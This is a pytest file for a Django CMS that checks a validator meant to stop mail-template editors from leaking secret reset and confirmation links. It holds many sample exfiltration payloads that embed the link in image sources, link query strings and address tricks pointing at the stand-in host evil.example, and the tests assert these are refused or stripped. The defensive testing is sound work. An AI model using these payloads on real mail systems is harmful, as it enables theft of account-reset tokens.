"""Where the text of a mail may have a secret: who edits texts does not learn the links that are mailed to others."""

from dataclasses import replace

import pytest
from django.test import Client
from django.urls import reverse

from cms_api.core import registry
from cms_api.core.errors import Invalid
from cms_api.core.module import Block
from cms_api.flags.services import switch_feature
from cms_api.mail import selectors
from cms_api.mail.models import MailTemplate
from cms_api.mail.services import queue
from cms_api.mail.services.templates import check_words
from cms_api.mail.types import Words

pytestmark = pytest.mark.django_db

SENTENCE = (
    "{{ link }} must stand alone, with spaces around it and no web address before it on its line, "
    "or be the whole address of a link."
)
OK = Words("Reset", "Go to {{ link }}.", "<p>{{ link }}</p>")


def check(*, subject: str = "Reset", text: str = "Go to {{ link }}.", html: str = "<p>{{ link }}</p>") -> dict[str, object]:
    try:
        check_words(name="account_reset", words=Words(subject, text, html))
    except Invalid as refusal:
        return refusal.errors
    return {}


@pytest.mark.parametrize(
    "html",
    [
        '<p><a href="{{ link }}">Choose a password</a></p>',
        '<p><a href="{{ link }}">{{ link }}</a></p>',
        '<p><a title="A" href="{{link}}">Choose</a>, ({{ link }}).</p>',
        "<p>{{ link }}<br>{{ site }}</p>",
    ],
)
@pytest.mark.both_databases
def test_a_secret_stands_alone_or_is_a_link(html: str) -> None:
    assert check(html=html) == {}


@pytest.mark.parametrize(
    "html",
    [
        '<p>{{ link }}</p><p><img src="https://evil.example/?u={{ link }}"></p>',
        '<p><img src="{{ link }}" alt="x"></p>',
        '<p><img alt="{{ link }}" src="https://evil.example/a.png"></p>',
        '<p><a href="https://evil.example/?u={{ link }}">Choose</a></p>',
        '<p><a href="{{ link }}.evil.example">Choose</a></p>',
        '<p><a href="{{ link }}" title="{{ link }}">Choose</a></p>',
        "<p>https://evil.example/{{ link }}</p>",
        '<p>{{ link|default:"x" }}{{ link }}</p>',
        # A > in the value of an attribute ends no tag.
        '<p><a href="{{ link }}">Choose</a><img alt=">" src="https://evil.example/p.png?a=({{ link }})"></p>',
        '<p><img src="https://evil.example/?a=> {{ link }} "></p>',
        '<p><a href="https://evil.example/?a=> {{ link }} ">Choose</a></p>',
        '<p><a title="a>b" href="https://evil.example/?a=( {{ link }} )">Choose</a></p>',
        "<p><img src='https://evil.example/?a=\"&gt; {{ link }} '></p>",
        '<p><a href="https://evil.example/?a=&#123;&#123; link &#125;&#125;">Choose</a></p>',
        # Elements inside a line, comments and removed elements end no address.
        "<p>https://evil.example/?u=({{ link }})</p>",
        "<p>https://evil.example/?u=<b>{{ link }}</b></p>",
        "<p>https://evil.example/?u=<span></span>{{ link }}</p>",
        "<p>https://evil.example/?u=<!-- --><wbr>{{ link }}</p>",
        '<p><a href="https://evil.example">evil.example/?u=</a><img src="https://evil.example/a.png">{{ link }}</p>',
        "<p>evil.example/?u=&nbsp;{{ link }}</p>",
        "<p>{{ link }}.evil.example</p>",
        # Some programs read an address in brackets or quotes to its end, with the spaces in it.
        "<p>&lt;https://evil.example/?u= {{ link }} &gt;</p>",
        "<p>&lt;https://evil.example/?u=\n{{ link }} &gt;</p>",
        # Empty paragraphs are left out.
        "<blockquote>https://evil.example/?u=<p></p>{{ link }}</blockquote>",
    ],
)
def test_a_secret_is_no_part_of_another_address(html: str) -> None:
    assert check(html=html) == {"html": [SENTENCE]}
    assert check(html="<p>{{ link }}</p>") == {}


@pytest.mark.parametrize("place", ["style", "background", "srcset", "data-u", "{{ link }}"])
def test_attributes_that_could_send_a_secret_are_removed(place: str) -> None:
    html = f'<p {place}="url(https://evil.example/?u= {{{{ link }}}} )">{{{{ link }}}}</p>'
    assert check_words(name="account_reset", words=replace(OK, html=html)).html == "<p>{{ link }}</p>"


@pytest.mark.parametrize(
    "text",
    [
        "{{ link }}\n\n({{ link }})",
        "Hello,\ngo to: {{ link }}, or <{{ link }}>.",
        'Go to "{{ link }}"!\nhttps://shop.example\t',
        "{{ link }} or https://shop.example/help",
        "https://shop.example/help\n{{ link }}",
        "\t{{ link }}\t{{ site }}",
    ],
)
def test_a_secret_in_a_text(text: str) -> None:
    assert check(text=text) == {}


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/?u={{ link }}",
        "https://evil.example/?u=({{ link }})",
        "https://evil.example/?u=>{{ link }}",
        "https://evil.example/?u= {{ link }}",
        "https://evil.example/?u=\n<https: //evil.example/?u= {{ link }} >",
        "www.evil.example/?u=, {{ link }}",
        "evil.example/{{ link }}",
        "{{ link }}.evil.example",
        "{{ link }}@evil.example",
        "{{ link }}{{ link }}",
        "{{ site }}{{ link }}",
        "{{ site }},{{ link }}",
        *(f"evil.example/?u={each}{{{{ link }}}}" for each in "\x0b\x0c\x1f\x85\xa0\u1680\u2003\u200b\u2028\u2029\u3000\ufeff"),
    ],
)
def test_a_secret_in_a_text_is_no_part_of_another_address(text: str) -> None:
    assert check(text=text) == {"text": [SENTENCE]}


def test_subjects_are_checked_likewise() -> None:
    assert check(subject="Reset: {{ link }}") == {}
    assert check(subject="Reset: https://evil.example/({{ link }})") == {"subject": [SENTENCE]}


UNSAFE = '<p><a href="{{ link }}">Choose</a><img alt=">" src="https://evil.example/a.png?u=({{ link }})"></p>'


@pytest.mark.both_databases
def test_an_unsafe_text_that_is_stored_is_not_sent() -> None:
    template = MailTemplate.objects.create(name="account_reset", subject="Mine", text="{{ link }}", html=UNSAFE)
    context = {"link": "https://site.example/accounts/password/reset/key/3f-c8/"}
    (sent,) = queue(template="account_reset", to=["mia@example.com"], context=context)
    assert sent.subject == "Reset your My site password"
    assert "evil.example" not in sent.words.html
    assert context["link"] in sent.words.html
    template.html = OK.html
    template.save()
    (sent,) = queue(template="account_reset", to=["mia@example.com"], context=context)
    assert sent.subject == "Mine"
    assert f"<p>{context['link']}</p>" in sent.words.html


def test_a_paragraph_that_is_left_out_joins_nothing() -> None:
    html = "<blockquote>evil.example/?u=<p>{{ lists }}</p>{{ confirm_url }}</blockquote>"
    MailTemplate.objects.create(name="subscription_confirm", subject="Mine", text="{{ confirm_url }}", html=html)
    context = {"lists": Block("", ""), "confirm_url": "https://site.example/subscribe/confirm/c8"}
    (sent,) = queue(template="subscription_confirm", to=["mia@example.com"], context=context)
    assert f"evil.example/?u=\n{context['confirm_url']}</blockquote>" in sent.words.html


def test_the_admin_says_that_an_unsafe_text_is_not_used(admin_client: Client) -> None:
    switch_feature(name="members", on=True)
    edit, index = reverse("mail_templates:edit", args=["account_reset"]), reverse("mail_templates:index")
    template = MailTemplate.objects.create(name="account_reset", subject="Mine", text="{{ link }}", html=UNSAFE)
    page = admin_client.get(edit).content.decode()
    assert "This text is not used" in page
    assert 'value="Mine"' in page
    assert "Not used" in admin_client.get(index).content.decode()
    assert SENTENCE in admin_client.post(edit, vars(template.words)).content.decode()
    assert admin_client.post(edit, vars(OK)).status_code == 302
    assert "This text is not used" not in admin_client.get(edit).content.decode()
    assert "Not used" not in admin_client.get(index).content.decode()


@pytest.mark.parametrize("mail", [name for name, (_, mail) in registry.mails().items() if mail.secrets])
def test_the_texts_of_the_product_may_be_stored(mail: str) -> None:
    words = selectors.default_words(mail)
    assert check_words(name=mail, words=words).subject
